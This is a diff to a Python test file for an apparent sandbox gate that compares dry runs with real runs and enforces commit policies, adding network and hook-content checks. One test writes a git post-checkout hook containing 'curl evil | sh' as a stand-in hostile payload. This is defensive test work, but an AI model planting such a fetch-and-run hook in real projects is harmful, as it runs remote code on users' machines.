@@ -177,13 +177,15 @@ forbid (principal, action == Action::"commit", resource)
 when {
   context.divergence.outside_paths > 0 ||
   context.divergence.totals_over > 0 ||
-  context.divergence.exit_changed
+  context.divergence.exit_changed ||
+  context.divergence.network_new
 }
 unless {
   ["out"].containsAll(context.divergence.outside_roots) &&
   context.divergence.outside_paths == context.divergence.created_outside &&
   context.divergence.created_outside_links == 0 &&
-  context.divergence.totals_over == 0 && !context.divergence.exit_changed
+  context.divergence.totals_over == 0 && !context.divergence.exit_changed &&
+  !context.divergence.network_new
 };
 '''
 
@@ -276,3 +278,64 @@ def test_a_failure_weighing_divergence_never_downgrades_a_quarantine(
     monkeypatch.setattr(controller.store, "changes", lost)
     result = controller.submit(python("plant"))
     assert result.state is State.QUARANTINED, result.reason
+
+
+WEIGHS_MORE = """
+@id("commit.deny-hook-content")
+@reason("the real run wrote other content under .hooks than its dry run did")
+forbid (principal, action == Action::"commit", resource)
+when { context.divergence.content_roots.contains(".hooks") };
+
+@id("commit.deny-incomplete")
+@reason("the real run did not make every change its dry run made")
+forbid (principal, action == Action::"commit", resource)
+when { context.divergence.dry_only > 0 };
+"""
+
+
+def test_content_at_the_dry_run_s_paths_commits_unless_a_bundle_weighs_it(
+        tmp_path: Path) -> None:
+    """A harmless hook in the dry run, another in the real one: the shipped bundle commits
+    it (content is not bound), a bundle that weighs ``content_roots`` does not."""
+    def hooks(spec: RunSpec) -> Outcome:
+        (spec.workspace_dir / ".hooks").mkdir()
+        (spec.workspace_dir / ".hooks" / "post-checkout").write_text(
+            "curl evil | sh" if spec.phase is Phase.BOUNDED else "echo hello")
+        return Outcome()
+
+    shipped = controller_with(tmp_path / "shipped", hooks)
+    committed = shipped.submit(python("hooks"))
+    assert committed.state is State.COMMITTED, committed.reason
+    assert committed.divergence is not None and not committed.divergence.diverged
+    assert committed.divergence.content_changed == 1
+    assert committed.divergence.content_roots == (".hooks",)
+    tool = str(Path(sys.executable).parent / "sandgate")
+    shown = subprocess.run([tool, "policy", "explain", committed.id], capture_output=True,
+                           text=True, check=False,
+                           env={**os.environ, "SANDGATE_DATA_DIR": str(tmp_path / "shipped")})
+    assert shown.returncode == 0, shown.stderr
+    assert "within the radius: 1 paths with other content (under .hooks)" in shown.stdout
+    weighing = controller_with(tmp_path / "weighing", hooks, policy_dir=bundle_with(
+        tmp_path, "weighs", WEIGHS_MORE))
+    refused = weighing.submit(python("hooks"))
+    assert refused.state is State.ROLLED_BACK, refused.reason
+    assert "commit.deny-hook-content" in refused.reason
+
+
+def test_a_real_run_that_does_less_commits_unless_a_bundle_asks_for_all_of_it(
+        tmp_path: Path) -> None:
+    def half(spec: RunSpec) -> Outcome:
+        (spec.workspace_dir / "a.txt").write_text("a")
+        if spec.phase is Phase.DRY_RUN:
+            (spec.workspace_dir / "b.txt").write_text("b")
+        return Outcome()
+
+    shipped = controller_with(tmp_path / "shipped", half)
+    committed = shipped.submit(python("half"))
+    assert committed.state is State.COMMITTED, committed.reason
+    assert committed.divergence is not None and committed.divergence.dry_only == 1
+    weighing = controller_with(tmp_path / "weighing", half, policy_dir=bundle_with(
+        tmp_path, "weighs", WEIGHS_MORE))
+    refused = weighing.submit(python("half"))
+    assert refused.state is State.ROLLED_BACK, refused.reason
+    assert "commit.deny-incomplete" in refused.reason
